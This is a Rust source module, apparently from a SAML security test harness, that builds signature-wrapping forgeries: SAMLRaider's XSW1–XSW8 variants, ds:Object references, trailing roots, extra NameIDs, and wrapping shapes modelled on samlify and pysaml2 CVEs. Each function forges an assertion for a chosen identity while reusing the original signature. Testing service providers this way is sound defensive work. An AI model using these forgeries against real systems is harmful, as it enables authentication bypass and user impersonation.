//! Signature wrapping: SAMLRaider's XSW1-XSW8, a reference into `ds:Object`, a second root, an
//! extra NameID, and the wrapping shapes of later advisories (a signature relocated to the
//! root, a foreign-namespace ID, an assertion nested in a forgery, the original signature kept
//! in a forgery). Nothing here re-signs: the original signature is reused verbatim.

use roxmltree::{Document, Node};

use super::{
    Edit, content_end, copy, forged_identity, id_edit, identity_edits, signature_of,
    signed_assertion, signed_assertion_and_signature, signed_name, start_tag_insert,
    without_signature,
};
use crate::plan::OriginalPlacement;
use crate::response::PipelineError;
use crate::xml::{NS_DS, NS_SAML, NS_SAMLP, escape_attr, escape_text, new_id};

/// The ID SAMLRaider gives an evil Response, followed by a random part: fresh in every
/// response, so that an SP's replay cache never refuses one wrapping as a replay of another
/// (which would hide the second forgery behind the first).
fn evil_response_id() -> String {
    format!("_evil_response_ID{}", new_id())
}

/// The ID SAMLRaider gives an evil Assertion, followed by a random part (see
/// [`evil_response_id`]).
fn evil_assertion_id() -> String {
    format!("_evil_assertion_ID{}", new_id())
}

fn plan_error(message: String) -> PipelineError {
    PipelineError::Plan(message)
}

/// Builds XSW`variant` (shared/reference/saml-rules-and-attacks.md §2.2).
pub(super) fn xsw(
    doc: &Document<'_>,
    xml: &str,
    variant: u8,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let original = signed_name(doc, "xsw")?;
    let root = doc.root_element();
    let evil_edits = |node: Node<'_, '_>| forged_identity(node, &original, name_id, "xsw");
    match variant {
        1 | 2 => {
            let signature = signature_of(root).ok_or_else(|| {
                plan_error(format!(
                    "tamper `xsw` {variant} needs a signed Response; use the layout `response` or `both`"
                ))
            })?;
            // The pristine clone loses its first signature (the Response's).
            let clone = copy(xml, root, vec![(signature.range(), String::new())]);
            let mut edits = evil_edits(root)?;
            edits.push(id_edit(root, &evil_response_id())?);
            let at = if variant == 1 {
                content_end(xml, signature)
            } else {
                signature.range().start
            };
            edits.push((at..at, clone));
            Ok(edits)
        }
        3..=8 => {
            let (assertion, signature) = signed_assertion_and_signature(doc, "xsw")?;
            let unsigned = || (signature.range(), String::new());
            let evil_copy = |new_id: bool| -> Result<String, PipelineError> {
                let mut edits = evil_edits(assertion)?;
                edits.push(unsigned());
                if new_id {
                    edits.push(id_edit(assertion, &evil_assertion_id())?);
                }
                Ok(copy(xml, assertion, edits))
            };
            let pristine = || without_signature(xml, assertion);
            let start = assertion.range().start;
            let mut edits = Vec::new();
            match variant {
                3 => edits.push((start..start, evil_copy(true)?)),
                4 => {
                    let evil = evil_copy(true)?;
                    let close = evil.rfind("</").unwrap_or(evil.len());
                    let nested = format!(
                        "{}{}{}",
                        &evil[..close],
                        &xml[assertion.range()],
                        &evil[close..]
                    );
                    edits.push((assertion.range(), String::new()));
                    let end = content_end(xml, root);
                    edits.push((end..end, nested));
                }
                5 | 6 => {
                    edits.extend(evil_edits(assertion)?);
                    edits.push(id_edit(assertion, &evil_assertion_id())?);
                    let at = if variant == 5 {
                        content_end(xml, root)
                    } else {
                        content_end(xml, signature)
                    };
                    edits.push((at..at, pristine()));
                }
                7 => edits.push((
                    start..start,
                    format!("<Extensions>{}</Extensions>", evil_copy(false)?),
                )),
                _ => {
                    edits.extend(evil_edits(assertion)?);
                    let at = content_end(xml, signature);
                    edits.push((at..at, format!("<Object>{}</Object>", pristine())));
                }
            }
            Ok(edits)
        }
        other => Err(plan_error(format!(
            "tamper `xsw`: variant {other} does not exist; SAMLRaider's variants are 1 to 8"
        ))),
    }
}

/// The signed assertion becomes a forgery with a new ID; its signature references a pristine
/// copy inside a `ds:Object` of that signature.
pub(super) fn object_reference(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let original = signed_name(doc, "object-reference")?;
    let (assertion, signature) = signed_assertion_and_signature(doc, "object-reference")?;
    let pristine = without_signature(xml, assertion);
    let mut edits = identity_edits(assertion, &original, name_id);
    edits.push(id_edit(assertion, &new_id())?);
    let at = content_end(xml, signature);
    edits.push((at..at, format!("<ds:Object>{pristine}</ds:Object>")));
    Ok(edits)
}

/// A second root after the signed response: empty, or carrying an unsigned forged copy of the
/// assertion.
pub(super) fn trailing_root(
    doc: &Document<'_>,
    xml: &str,
    name_id: Option<&str>,
) -> Result<String, PipelineError> {
    let root = doc.root_element();
    let id = new_id();
    let Some(name_id) = name_id else {
        return Ok(format!(
            "{xml}<samlp:Response xmlns:samlp=\"{NS_SAMLP}\" ID=\"{id}\" Version=\"2.0\"/>"
        ));
    };
    let assertion = signed_assertion(doc)?;
    let forged = copy(
        xml,
        assertion,
        unsigned_forgery(doc, assertion, name_id, &new_id(), "trailing-root")?,
    );
    let instant = root.attribute("IssueInstant").unwrap_or_default();
    Ok(format!(
        "{xml}<samlp:Response xmlns:samlp=\"{NS_SAMLP}\" xmlns:saml=\"{NS_SAML}\" ID=\"{id}\" \
         Version=\"2.0\" IssueInstant=\"{}\"><samlp:Status><samlp:StatusCode \
         Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{forged}</samlp:Response>",
        escape_attr(instant)
    ))
}

/// A Subject with a forged NameID in `samlp:Extensions`, before the signed assertion.
pub(super) fn extra_name_id(doc: &Document<'_>, name_id: &str) -> Result<Vec<Edit>, PipelineError> {
    let at = extensions_point(doc)?;
    Ok(vec![(
        at..at,
        format!(
            "<samlp:Extensions xmlns:samlp=\"{NS_SAMLP}\"><saml:Subject xmlns:saml=\"{NS_SAML}\"><saml:NameID \
             Format=\"urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress\">{}</saml:NameID>\
             </saml:Subject></samlp:Extensions>",
            escape_text(name_id)
        ),
    )])
}

/// Where `samlp:Extensions` goes in the Response: after its Issuer and Signature (SAML Core
/// §3.2.2 StatusResponseType order).
pub(super) fn extensions_point(doc: &Document<'_>) -> Result<usize, PipelineError> {
    let root = doc.root_element();
    root.children()
        .rfind(|n| n.has_tag_name((NS_SAML, "Issuer")) || n.has_tag_name((NS_DS, "Signature")))
        .map(|n| n.range().end)
        .ok_or_else(|| {
            plan_error("tamper: the Response has no Issuer to put Extensions after".into())
        })
}

/// The edits that turn the signed assertion into an unsigned forgery for `name_id` with the
/// ID `id` (its signature removed).
fn unsigned_forgery(
    doc: &Document<'_>,
    assertion: Node<'_, '_>,
    name_id: &str,
    id: &str,
    kind: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let original = signed_name(doc, kind)?;
    let mut edits = forged_identity(assertion, &original, name_id, kind)?;
    edits.push(id_edit(assertion, id)?);
    if let Some(signature) = signature_of(assertion) {
        edits.push((signature.range(), String::new()));
    }
    Ok(edits)
}

/// `inner` wrapped in a `samlp:Extensions` that declares its namespace.
fn in_extensions(inner: &str) -> String {
    format!("<samlp:Extensions xmlns:samlp=\"{NS_SAMLP}\">{inner}</samlp:Extensions>")
}

/// [`crate::plan::Tamper::RelocatedSignature`] (samlify CVE-2025-47949).
pub(super) fn relocated_signature(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    const KIND: &str = "relocated-signature";
    let root = doc.root_element();
    let assertion = signed_assertion(doc)?;
    let root_signature = signature_of(root);
    let mut edits = Vec::new();
    match (signature_of(assertion), root_signature) {
        // The assertion's signature goes to the root, the original assertion into Extensions,
        // a forgery where it was; a Response signature would no longer verify and goes.
        (Some(signature), _) => {
            let forged = copy(
                xml,
                assertion,
                unsigned_forgery(doc, assertion, name_id, &new_id(), KIND)?,
            );
            edits.push((assertion.range(), forged));
            let moved = format!(
                "{}{}",
                &xml[signature.range()],
                in_extensions(&without_signature(xml, assertion))
            );
            match root_signature {
                Some(old) => edits.push((old.range(), moved)),
                None => {
                    let at = extensions_point(doc)?;
                    edits.push((at..at, moved));
                }
            }
        }
        // The Response's signature stays where it is; the original Response goes into
        // Extensions after it, and the root around them becomes the forgery.
        (None, Some(signature)) => {
            let original = signed_name(doc, KIND)?;
            edits.extend(forged_identity(assertion, &original, name_id, KIND)?);
            edits.push(id_edit(assertion, &new_id())?);
            edits.push(id_edit(root, &new_id())?);
            let at = signature.range().end;
            edits.push((at..at, in_extensions(&without_signature(xml, root))));
        }
        (None, None) => {
            return Err(plan_error(format!(
                "tamper `{KIND}` needs a signature; use a signing layout"
            )));
        }
    }
    Ok(edits)
}

/// [`crate::plan::Tamper::ForeignId`] (a node-saml CVE-2025-54419 candidate).
pub(super) fn foreign_id(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    const KIND: &str = "foreign-id";
    let (assertion, _) = signed_assertion_and_signature(doc, KIND)?;
    let signed_id = assertion.attribute("ID").unwrap_or_default();
    let mut forgery = unsigned_forgery(doc, assertion, name_id, &new_id(), KIND)?;
    forgery.push(start_tag_insert(
        xml,
        assertion,
        format!(
            " xmlns:x=\"urn:harness:foreign\" x:ID=\"{}\"",
            escape_attr(signed_id)
        ),
    ));
    let at = assertion.range().start;
    Ok(vec![(at..at, copy(xml, assertion, forgery))])
}

/// [`crate::plan::Tamper::AssertionInForgedAssertion`] (pysaml2 CVE-2021-21238).
pub(super) fn assertion_in_forged_assertion(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    const KIND: &str = "assertion-in-forged-assertion";
    let (assertion, signature) = signed_assertion_and_signature(doc, KIND)?;
    let original = signed_name(doc, KIND)?;
    // pysaml2's test calls it `attack`; the random part keeps it fresh in every response.
    let outer_id = format!("attack{}", new_id());
    let mut edits = forged_identity(assertion, &original, name_id, KIND)?;
    edits.push(id_edit(assertion, &outer_id)?);
    // The outer assertion's own signature: the original's, pointed at the outer ID, so neither
    // its digest nor its value can verify.
    let uri = signature
        .descendants()
        .find(|n| n.has_tag_name((NS_DS, "Reference")))
        .and_then(|r| r.attribute_node("URI"))
        .ok_or_else(|| {
            plan_error(format!(
                "tamper `{KIND}`: the signature has no Reference URI"
            ))
        })?;
    edits.push((uri.range_value(), format!("#{}", escape_attr(&outer_id))));
    let first_child = crate::dsig::inner_range(xml, assertion).start;
    edits.push((first_child..first_child, xml[assertion.range()].to_owned()));
    Ok(vec![(assertion.range(), copy(xml, assertion, edits))])
}

/// [`crate::plan::Tamper::SignatureInForgedAssertion`] (pysaml2 CVE-2020-5390).
pub(super) fn signature_in_forged_assertion(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
    placement: OriginalPlacement,
) -> Result<Vec<Edit>, PipelineError> {
    const KIND: &str = "signature-in-forged-assertion";
    let (assertion, _) = signed_assertion_and_signature(doc, KIND)?;
    let original = signed_name(doc, KIND)?;
    let mut forgery = forged_identity(assertion, &original, name_id, KIND)?;
    forgery.push(id_edit(assertion, &new_id())?);
    let pristine = without_signature(xml, assertion);
    let mut edits = Vec::new();
    match placement {
        OriginalPlacement::Extensions => {
            let at = extensions_point(doc)?;
            edits.push((at..at, in_extensions(&pristine)));
        }
        OriginalPlacement::Wrapper => {
            let at = assertion.range().end;
            edits.push((
                at..at,
                format!(
                    "<harness:Wrapper xmlns:harness=\"urn:harness:wrapper\">{pristine}</harness:Wrapper>"
                ),
            ));
        }
        OriginalPlacement::Nested => {
            let at = content_end(xml, assertion);
            forgery.push((at..at, pristine));
        }
    }
    edits.push((assertion.range(), copy(xml, assertion, forgery)));
    Ok(edits)
}
